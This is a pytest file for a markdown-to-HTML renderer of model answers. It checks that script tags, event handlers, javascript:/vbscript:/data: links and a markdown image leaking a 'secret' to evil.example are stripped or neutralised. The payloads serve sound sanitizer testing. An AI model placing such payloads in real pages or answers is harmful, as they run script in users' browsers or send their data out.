"""Answers as HTML: nothing in them runs or calls anywhere, whatever the model says."""

from __future__ import annotations

import re

import pytest

from tuneloop.web.prose import to_html


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a <b onclick='x'>b</b>", "<!-- --><svg onload=x>",
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html,<script>1</script>)",
        "![x](https://evil.example/?q=secret)", "![x](javascript:alert(1))", "<javascript:alert(1)>",
        "```html\n<script>1</script>\n```", "[x]: javascript:alert(1)\n\n[x]", "[x](vbscript:1)", "`<img src=x>`",
        "| <script> |\n|---|\n| <img onerror=x> |", '[x](https://a.example "\\" onmouseover=alert(1)")',
    ],
)  # fmt: skip
def test_no_markup_of_an_answer_is_markup_of_the_page(text: str) -> None:
    html = to_html(text)
    tags = re.findall(r"<\s*/?\s*([a-zA-Z]+)([^>]*)>", html)
    assert {name for name, _ in tags} <= {"p", "a", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "br"}
    for name, rest in tags:
        attributes = dict(re.findall(r'([\w-]+)="([^"]*)"', rest))
        assert set(attributes) <= {"href", "class", "title"}, rest
        if name == "a" and attributes:
            assert attributes["href"].startswith("https://")


def test_markdown_is_shown_as_such() -> None:
    html = to_html("**bold** `code`\nnext\n\n1. one\n\n| a | b |\n|---|---|\n| 1 | 二 |\n\n```python\nx < 1\n```")
    for part in ("<strong>bold</strong>", "<br", "<ol>", "<td>二</td>", 'class="language-python"', "x &lt; 1"):
        assert part in html


@pytest.mark.parametrize("text", ["```py\nhalf", "**ha", "| a |\n|-", "[x](http", "> > > ", "", "* " * 500, "[" * 2000])
def test_an_unfinished_answer_can_be_shown(text: str) -> None:
    assert isinstance(to_html(text), str)
